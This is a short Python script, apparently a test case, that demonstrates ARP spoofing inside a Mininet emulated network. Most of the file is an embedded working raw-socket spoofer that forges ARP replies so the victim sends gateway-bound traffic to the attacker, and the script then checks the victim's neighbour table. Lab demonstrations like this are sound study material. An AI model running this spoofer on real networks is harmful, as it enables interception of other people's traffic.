# SPDX-License-Identifier: Apache-2.0
# kind: ARP spoofing with a raw socket
# expect: victim sends to the attacker: True
import time
from mininet.net import Mininet
from mininet.topo import SingleSwitchTopo
LIE = r'''
import socket, sys, time
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((sys.argv[1], 0))
own = s.getsockname()[4]
gateway, victim = map(socket.inet_aton, sys.argv[2:4])
for _ in range(20):  # an entry is left alone for a second
    s.send(b'\xff' * 6 + own + b'\x08\x06\x00\x01\x08\x00\x06\x04\x00\x02' + own + gateway + b'\xff' * 6 + victim)
    time.sleep(0.1)
'''
net = Mininet(SingleSwitchTopo(3), autoSetMacs=True)
net.start()
victim, gateway, attacker = net.hosts
victim.cmd('ping -c 1', gateway.IP())
open('lie.py', 'w').write(LIE)
print(attacker.cmd('python3 lie.py', attacker.defaultIntf(), gateway.IP(), victim.IP()))
print('victim sends to the attacker:', attacker.MAC() in victim.cmd('ip neigh show', gateway.IP()))
net.stop()
